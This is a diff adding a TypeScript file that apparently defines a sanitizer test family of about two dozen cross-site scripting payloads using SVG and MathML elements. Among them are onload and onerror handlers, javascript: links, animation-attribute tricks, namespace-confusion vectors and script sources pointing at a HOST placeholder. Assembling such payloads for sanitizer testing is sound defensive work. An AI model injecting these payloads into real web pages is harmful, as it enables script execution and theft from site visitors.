@@ -1,0 +1,30 @@
+import { family } from "./payload";
+
+/** SVG and MathML, whose contents are parsed by other rules and which have script and links of their own. */
+export const foreignElements = family("SVG and MathML", 600, [
+  "<svg onload=RUN></svg>",
+  "<svg/onload=RUN>",
+  "<svg><script>RUN</script></svg>",
+  "<svg><script href=https:HOST></script></svg>",
+  "<svg><script xlink:href=https:HOST></script></svg>",
+  "<svg><script>hostile&#46;push&lpar;NUMBER&rpar;</script></svg>",
+  "<svg><a href=javascript:RUN><text y=20>click</text></a></svg>",
+  '<svg><a xlink:href="javascript:RUN"><text y=20>click</text></a></svg>',
+  "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
+  '<svg><a><animate attributeName=href values="javascript:RUN"></animate><text y=20>click</text></a></svg>',
+  "<svg><set attributeName=onmouseover to=RUN></svg>",
+  "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"></use></svg>",
+  "<svg><image href=https:HOST></image></svg>",
+  "<svg><feImage href=https:HOST></feImage></svg>",
+  "<svg><title><img src=x onerror=RUN></title></svg>",
+  "<svg><desc><img src=x onerror=RUN></desc></svg>",
+  "<math><mtext><img src=x onerror=RUN></mtext></math>",
+  '<math href="javascript:RUN">click</math>',
+  '<math><maction actiontype="statusline#https:HOST" xlink:href="javascript:RUN">click</maction></math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
+  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml></semantics></math>',
+  "<math><mi xlink:href='data:x,<script>RUN</script>'>x</mi></math>",
+  "<math><mglyph src=https:HOST></mglyph></math>",
+  '<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
+]);
